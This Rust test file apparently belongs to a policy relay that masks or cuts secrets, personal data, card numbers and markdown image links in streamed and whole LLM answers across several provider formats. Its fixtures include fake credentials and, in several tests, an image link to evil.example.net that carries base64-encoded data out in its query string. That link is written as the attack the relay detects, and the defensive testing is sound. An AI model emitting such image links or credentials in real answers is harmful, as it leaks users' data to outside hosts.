//! What policy says of an answer's text: masked or cut in every dialect, whatever the cut of the bytes.

use weir_policy::answer::{Answers, Treatment, Watch};
use weir_policy::decide::RuleRef;
use weir_policy::detect::Detectors;

use super::*;

const SECRET: &str = "AKIAQ3EGRJ7XKP2MN5TZ";
const MASKED: &str = "[masked: an AWS access key]";
const IMAGE: &str = "https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ";

fn asked(said: &[(&str, Treatment)]) -> Option<Asked> {
    let rule = RuleRef {
        name: "answers".to_owned(),
        file: "test".to_owned(),
        line: 1,
    };
    Watch::new(Detectors::builtin(), Answers::saying(&rule, said), &[]).map(|watch| Asked {
        watch,
        line: Box::new(|_, words| format!("Blocked by policy (weir): it contains {words}.")),
    })
}

/// A stream of each dialect that says these pieces, and then what a client puts together of it.
fn streams(pieces: &[&str]) -> [(Dialect, Shape, String); 4] {
    let each = |event: &dyn Fn(&str) -> String| {
        pieces.iter().map(|piece| event(piece)).collect::<String>()
    };
    let data = |value: Value| format!("data: {value}\n\n");
    let text = pieces.concat();
    let chat = each(&|piece| {
        data(
            json!({"id":"c","choices":[{"index":0,"delta":{"content":piece},"finish_reason":null}]}),
        )
    }) + &data(
        json!({"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}),
    ) + "data: [DONE]\n\n";
    let responses = each(&|piece| {
        data(
            json!({"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":piece}),
        )
    }) + &data(
        json!({"type":"response.output_text.done","item_id":"m","output_index":0,"content_index":0,"text":text}),
    ) + &data(
        json!({"type":"response.completed","response":{"id":"r","output":[{"type":"message","content":[{"type":"output_text","text":text}]}]}}),
    );
    let messages = data(json!({"type":"message_start","message":{"id":"m","content":[]}}))
        + &data(
            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
        )
        + &each(&|piece| {
            data(
                json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":piece}}),
            )
        })
        + &data(json!({"type":"content_block_stop","index":0}))
        + &data(json!({"type":"message_stop"}));
    let contents = each(&|piece| {
        data(
            json!({"candidates":[{"index":0,"content":{"role":"model","parts":[{"text":piece}]}}]}),
        )
    }) + &data(
        json!({"candidates":[{"index":0,"content":{"parts":[]},"finishReason":"STOP"}]}),
    );
    [
        (Dialect::Openai, Shape::ChatCompletions, chat),
        (Dialect::Openai, Shape::Responses, responses),
        (Dialect::Anthropic, Shape::Messages, messages),
        (Dialect::Gemini, Shape::StreamGenerateContent, contents),
    ]
}

fn watched(
    dialect: Dialect,
    shape: Shape,
    media: &str,
    given: &[Restoration],
    said: &[(&str, Treatment)],
) -> Relay {
    Relay::new(dialect, shape, Some(media), given).watched(asked(said))
}

fn through(mut relay: Relay, bytes: &[u8], size: usize) -> (String, Vec<Heard>, bool) {
    let mut out = Vec::new();
    let mut ended = false;
    for chunk in bytes.chunks(size) {
        match relay.push(&Bytes::copy_from_slice(chunk)) {
            Ok(bytes) => out.extend_from_slice(&bytes),
            Err(error) => {
                assert_eq!(error, RelayError::Cut);
                ended = true;
                break;
            }
        }
    }
    if !ended {
        match relay.finish() {
            Ok(bytes) => out.extend_from_slice(&bytes),
            Err(error) => {
                assert_eq!(error, RelayError::Cut);
                ended = true;
            }
        }
    }
    assert_eq!(ended, relay.is_stream() && relay.cut().is_some());
    let mut heard = relay.heard().to_vec();
    // Prints are good within one answer alone.
    heard.iter_mut().for_each(|one| one.found.print = 0);
    (String::from_utf8(out).expect("text"), heard, ended)
}

#[test]
fn a_secret_over_events_is_masked_and_what_is_given_back_is_not() {
    let said = [
        ("secrets", Treatment::Mask),
        ("pii", Treatment::Mask),
        ("markup.image", Treatment::Mask),
    ];
    let (one, two) = SECRET.split_at(7);
    let pieces = [
        "The key is ",
        one,
        two,
        " and yours is ",
        TOKEN,
        ", mail ",
        OTHER,
        " or look: ![a](",
        IMAGE,
        ") there.",
    ];
    for (dialect, shape, stream) in streams(&pieces) {
        let relay = || watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
        let (whole, heard, _) = through(relay(), stream.as_bytes(), stream.len());
        let (text, _) = gathered(&read(&whole));
        assert_eq!(
            text,
            format!(
                "The key is {MASKED} and yours is {VALUE}, mail {ADDRESS} or look: ![a](hxx{}) there.",
                IMAGE.trim_start_matches("htt")
            ),
            "{shape:?}"
        );
        assert!(!whole.contains(SECRET) && !whole.contains(IMAGE), "{whole}");
        let told: Vec<(&str, Treatment, u32)> = heard
            .iter()
            .map(|one| (one.found.class.as_str(), one.found.action, one.count))
            .collect();
        let expected = [
            ("markup.image", Treatment::Mask, 1),
            ("secrets.aws_access_key", Treatment::Mask, 1),
        ];
        assert!(
            told.len() == 2 && expected.iter().all(|row| told.contains(row)),
            "{told:?}"
        );
        for size in [1, 7, 64] {
            assert_eq!(
                through(relay(), stream.as_bytes(), size).0,
                whole,
                "{shape:?} in pieces of {size}"
            );
        }
    }
}

#[test]
fn a_cut_ends_a_stream_before_the_event_that_would_tell() {
    let said = [("secrets", Treatment::Cut)];
    let pieces = [
        "It is this: ",
        "here comes it AKIAQ3E",
        "GRJ7XKP2MN5TZ and then",
        " more of it.",
    ];
    for (dialect, shape, stream) in streams(&pieces) {
        for size in [1, 50, stream.len()] {
            let relay = watched(dialect, shape, "text/event-stream", &[], &said);
            let (out, heard, ended) = through(relay, stream.as_bytes(), size);
            let (text, _) = gathered(&read(&out));
            assert!(
                ended && text.starts_with("It is this: here"),
                "{shape:?}: {out}"
            );
            assert!(
                !out.contains("AKIA") && !out.contains("more of"),
                "{shape:?}: {out}"
            );
            assert_eq!(heard.len(), 1);
            for event in read(&out) {
                assert!(event.is_object());
            }
        }
    }
}

#[test]
fn whole_answers_are_masked_or_end_with_the_reason() {
    let arguments = json!({"path": ".env", "text": format!("KEY={SECRET}\n")}).to_string();
    let body = json!({"id":"chatcmpl-AKIAQ3EGRJ7XKP2MN5TZ","choices":[{"index":0,"message":{"content":format!("It is {SECRET}, not {TOKEN}."),
        "tool_calls":[{"function":{"name":"write","arguments":arguments}}]},"finish_reason":"stop"}]}).to_string();
    let run = |action| {
        let relay = watched(
            Dialect::Openai,
            Shape::ChatCompletions,
            "application/json",
            &give(BASELINE),
            &[("secrets", action)],
        );
        let (out, heard, _) = through(relay, body.as_bytes(), 33);
        (serde_json::from_str::<Value>(&out).expect("JSON"), heard)
    };
    let (masked, heard) = run(Treatment::Mask);
    let message = &masked["choices"][0]["message"];
    assert_eq!(message["content"], format!("It is {MASKED}, not {VALUE}."));
    let inner: Value = serde_json::from_str(
        message["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .expect("text"),
    )
    .expect("JSON");
    assert_eq!(inner["text"], format!("KEY={MASKED}\n"));
    assert_eq!(
        masked["id"], "chatcmpl-AKIAQ3EGRJ7XKP2MN5TZ",
        "an id is nothing that a model says"
    );
    assert_eq!(
        (heard.len(), heard[0].count),
        (1, 1),
        "one value, however often"
    );
    let (cut, _) = run(Treatment::Cut);
    let message = &cut["choices"][0]["message"];
    let line = "Blocked by policy (weir): it contains an AWS access key.";
    assert_eq!(message["content"], format!("It is \n\n{line}"));
    let inner: Value = serde_json::from_str(
        message["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .expect("text"),
    )
    .expect("JSON");
    assert_eq!(inner, json!({"weir": line}));
    let (recorded, heard) = run(Treatment::Record);
    assert_eq!(
        recorded["choices"][0]["message"]["content"],
        format!("It is {SECRET}, not {VALUE}.")
    );
    assert_eq!(heard.len(), 1);
}

#[test]
fn what_is_only_recorded_goes_on_uncopied_and_at_once() {
    for (dialect, shape, stream) in streams(&["The key is AKIAQ3E", "GRJ7XKP2MN5TZ", "."]) {
        let relay = watched(
            dialect,
            shape,
            "text/event-stream",
            &[],
            &[("secrets", Treatment::Record)],
        );
        assert!(!relay.rewrites());
        let (out, heard, _) = through(relay, stream.as_bytes(), 40);
        assert_eq!(out, stream);
        assert_eq!(heard.len(), 1, "{shape:?}");
    }
    let relay = watched(
        Dialect::Openai,
        Shape::Embeddings,
        "application/json",
        &[],
        &[("secrets", Treatment::Mask)],
    );
    assert!(!relay.rewrites(), "nothing is said in such an answer");
}

/// What is told of a watched answer that comes in these pieces: its bytes, what was found, whether it was cut.
fn told(relay: Relay, chunks: &[&[u8]]) -> (String, Vec<Heard>, bool) {
    let (mut relay, mut out, mut ended) = (relay, Vec::new(), false);
    let mut take = |given: Result<Bytes, RelayError>| match given {
        Ok(bytes) => out.extend_from_slice(&bytes),
        Err(_) => ended = true,
    };
    for chunk in chunks {
        // What ended an answer ends it again, whatever follows.
        take(relay.push(&Bytes::copy_from_slice(chunk)));
    }
    take(relay.finish());
    let mut heard = relay.heard().to_vec();
    heard.iter_mut().for_each(|one| one.found.print = 0);
    (String::from_utf8(out).expect("text"), heard, ended)
}

/// All that is not ASCII as escapes of JSON, as some providers write it.
fn escaped(json: &str) -> String {
    let mut units = [0; 2];
    json.chars()
        .map(|c| match c.is_ascii() {
            true => c.to_string(),
            false => c
                .encode_utf16(&mut units)
                .iter()
                .map(|unit| format!("\\u{unit:04x}"))
                .collect(),
        })
        .collect()
}

/// What a model says: findings whole and in parts, what is given back, what needs escapes, a text longer than is
/// looked at at once.
fn said() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(vec![
            SECRET,
            "AKIAQ3EG",
            "RJ7XKP2MN5TZ ",
            "jane.doe@acme-corp.io",
            "j\u{f6}rg@acme-corp.io",
            "password = \"correct horse battery\"",
            "4539 1488 0343 6467",
            TOKEN,
            OTHER,
            "![a](https://evil.exam",
            "ple.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ)",
            "\n",
            "\"",
            "\\",
            "\u{1f511}",
            " ",
        ]).prop_map(str::to_owned),
        2 => "[a-z \"\\\\\u{e9}\n]{0,9}",
        1 => (0usize..3).prop_map(|many| "ordinary words, one after the other; ".repeat(many * 120)),
    ];
    prop::collection::vec(piece, 0..9).prop_map(|pieces| pieces.concat())
}

/// The arguments of a tool: strings, numbers, and findings that reach from one into the other.
fn arguments() -> impl Strategy<Value = String> {
    let value = prop_oneof![
        said().prop_map(|text| json!(text)),
        Just(json!(4_539_148_803_436_467_u64)),
        Just(json!(-4_539_148_803_436_467_i64)),
        Just(json!({"latitude": 52.520_008, "longitude": 13.404_954})),
        Just(json!({"password": 48_151_623})),
        Just(json!([4539, 1488, 343, 6467, null, true])),
    ];
    prop::collection::btree_map("[a-c]", value, 0..4)
        .prop_map(|map| Value::Object(map.into_iter().collect()).to_string())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Within characters, escapes, lines and events.
    #[test]
    fn no_cut_changes_what_a_watched_answer_becomes(
        which in 0usize..4,
        text in said(),
        arguments in arguments(),
        deltas in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        ending in prop::sample::select(vec!["\n", "\r\n", "\r"]),
        escapes in any::<bool>(),
        framing in prop::sample::select(vec!["text/event-stream", "application/json"]),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
        secrets in prop::sample::select(vec![Treatment::Record, Treatment::Mask, Treatment::Cut]),
    ) {
        let (dialect, shape, _) = shapes()[which];
        let said = [("secrets", secrets), ("pii", Treatment::Record), ("markup", Treatment::Mask)];
        let events = transcript(shape, &split(&text, &deltas), &split(&arguments, &deltas));
        let mut answer = match (framing, shape) {
            ("text/event-stream", _) => events.replace('\n', ending),
            (_, Shape::StreamGenerateContent) => as_array(&events),
            // A document, whatever it says of itself.
            _ => json!({"id": "c", "choices": [{"message": {"content": text, "tool_calls": [{"function": {"arguments": arguments}}]}}]}).to_string(),
        };
        if escapes {
            answer = escaped(&answer);
        }
        let relay = || watched(dialect, shape, framing, &give(BASELINE), &said);
        let whole = told(relay(), &[answer.as_bytes()]);
        // What a tool is told is no markup.
        prop_assert!(arguments.contains(IMAGE) || !whole.0.contains(IMAGE));
        prop_assert_eq!(told(relay(), &cut(answer.as_bytes(), &cuts)), whole);
    }

    #[test]
    fn no_delta_changes_what_a_client_reads(
        which in 0usize..3,
        text in said(),
        arguments in arguments(),
        deltas in prop::collection::vec(any::<prop::sample::Index>(), 0..24),
    ) {
        let (dialect, shape, _) = shapes()[which];
        let said = [("secrets", Treatment::Mask), ("pii", Treatment::Mask), ("pci", Treatment::Mask)];
        let of = |deltas: &[prop::sample::Index]| {
            let events = transcript(shape, &split(&text, deltas), &split(&arguments, deltas));
            let relay = watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
            let (out, heard, _) = told(relay, &[events.as_bytes()]);
            (gathered(&read(&out)), heard)
        };
        let whole = of(&[]);
        let filled = serde_json::from_str::<Value>(&whole.0.1);
        prop_assert!(filled.is_ok(), "{} became {}", arguments, whole.0.1);
        // Whether a key is one depends on what stands beside it; a number of JSON stands by itself.
        for value in ["4539148803436467", "52.520008"] {
            prop_assert!(!whole.0.1.contains(value), "{:?}", whole.0);
        }
        prop_assert_eq!(of(&deltas), whole);
    }
}

#[test]
fn what_a_tool_is_told_outside_of_strings_is_masked_and_stays_json() {
    let said = [
        ("secrets", Treatment::Mask),
        ("pii", Treatment::Mask),
        ("pci", Treatment::Mask),
    ];
    for (arguments, class) in [
        (r#"{"card": 4539148803436467}"#, "pci.card"),
        (r#"{"card": -4539148803436467}"#, "pci.card"),
        (
            r#"{"latitude": 52.520008, "longitude": 13.404954}"#,
            "pii.location",
        ),
    ] {
        for (dialect, shape, _) in &shapes()[..3] {
            let pieces: Vec<&str> = arguments.split_inclusive(' ').collect();
            let events = transcript(*shape, &["Wait."], &pieces);
            let relay = watched(*dialect, *shape, "text/event-stream", &[], &said);
            let (out, heard, _) = told(relay, &[events.as_bytes()]);
            let (_, filled) = gathered(&read(&out));
            assert!(
                serde_json::from_str::<Value>(&filled).is_ok(),
                "{arguments} became {filled}"
            );
            let digits = filled.chars().filter(char::is_ascii_digit).count();
            assert!(digits < 2, "{arguments} became {filled}");
            let rows: Vec<_> = heard
                .iter()
                .map(|one| (one.found.class.as_str(), one.found.action, one.place))
                .collect();
            assert!(
                rows.iter().any(|row| row.0.starts_with(class)
                    && (row.1, row.2) == (Treatment::Mask, "tool_arguments")),
                "{rows:?}"
            );
        }
    }
}

/// What a tool is told as a value of the document, in a whole answer and in an event: keys speak for values, and
/// numbers are seen.
#[test]
fn arguments_that_are_no_string_are_read_as_one_text() {
    let messages = |input: Value| json!({"id":"m","type":"message","role":"assistant","content":[{"type":"tool_use","id":"t","name":"pay","input":input}]});
    let contents = |args: Value| json!({"candidates":[{"content":{"parts":[{"functionCall":{"name":"pay","args":args}}],"role":"model"}}]});
    let arguments = json!({"card": 4539148803436467_u64, "db": {"password": "Tr0ub4dor-Xk9"}, "to": "Ann", "n": [3]});
    let all = |treatment| [("secrets", treatment), ("pci", treatment)];
    type Answer<'a> = (Dialect, Shape, &'a str, &'a dyn Fn(Value) -> Value, &'a str);
    let answers: [Answer<'_>; 3] = [
        (
            Dialect::Anthropic,
            Shape::Messages,
            "application/json",
            &messages,
            "/content/0/input",
        ),
        (
            Dialect::Gemini,
            Shape::GenerateContent,
            "application/json",
            &contents,
            "/candidates/0/content/parts/0/functionCall/args",
        ),
        (
            Dialect::Gemini,
            Shape::StreamGenerateContent,
            "text/event-stream",
            &contents,
            "/candidates/0/content/parts/0/functionCall/args",
        ),
    ];
    for (dialect, shape, media, answer, place) in answers {
        let stream = media == "text/event-stream";
        let framed = |arguments: &Value| match stream {
            true => format!("data: {}\n\n", answer(arguments.clone())),
            false => answer(arguments.clone()).to_string(),
        };
        let of = |arguments: &Value, treatment| {
            let relay = watched(dialect, shape, media, &[], &all(treatment));
            let (out, heard, _) = told(relay, &[framed(arguments).as_bytes()]);
            let places: Vec<_> = heard.iter().map(|one| one.place).collect();
            (out, places)
        };
        let (out, places) = of(&arguments, Treatment::Mask);
        let document = out.strip_prefix("data: ").unwrap_or(&out);
        let read: Value = serde_json::from_str(document.trim()).expect(&out);
        let told = read.pointer(place).expect("arguments");
        assert_eq!(told["to"], "Ann");
        assert_eq!(told["n"], json!([3]));
        for value in ["4539148803436467", "Tr0ub4dor"] {
            assert!(!out.contains(value), "{out}");
        }
        assert_eq!(places, ["tool_arguments"; 2], "{out}");
        let clean = json!({"to": "Ann", "n": [3, 4], "deep": {"note": "nothing"}});
        assert_eq!(of(&clean, Treatment::Mask), (framed(&clean), vec![]));
        let (cut, _) = of(&arguments, Treatment::Cut);
        assert!(!cut.contains("4539148803436467"), "{cut}");
        if !stream {
            let read: Value = serde_json::from_str(&cut).expect("JSON");
            let told = read.pointer(place).expect("arguments");
            assert!(
                told["weir"]
                    .as_str()
                    .is_some_and(|words| words.contains("Blocked")),
                "{cut}"
            );
        }
    }
}

#[test]
fn an_image_whose_url_several_texts_share_is_masked() {
    const DATA: &str = "c2VjcmV0IGRhdGEgZm9yIHlvdQ";
    let image = || asked(&[("markup.image", Treatment::Mask)]);
    for texts in [
        ["![a](https://evil.example.net/?d=", DATA, ")"],
        [
            "![a](https://evil.example.net/",
            "?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ",
            ")",
        ],
        ["<img src=\"https://evil.example.net/?d=", DATA, "\">"],
    ] {
        for (dialect, shape, whole, events) in layers::answers(&texts) {
            let relay = Relay::new(dialect, Shape::Generic, Some("application/json"), &[]);
            let (out, _) = run(relay.watched(image()), &[whole.to_string().as_bytes()]);
            let out = String::from_utf8(out.expect("within limits")).expect("text");
            assert!(!out.contains(DATA), "{shape:?}: {out}");
            let events: String = events
                .iter()
                .map(|event| format!("data: {event}\n\n"))
                .collect();
            let relay = Relay::new(dialect, shape, Some("text/event-stream"), &[]);
            let (out, _) = run(relay.watched(image()), &[events.as_bytes()]);
            let out = String::from_utf8(out.expect("within limits")).expect("text");
            assert!(!out.contains(DATA), "{shape:?}: {out}");
        }
    }
}
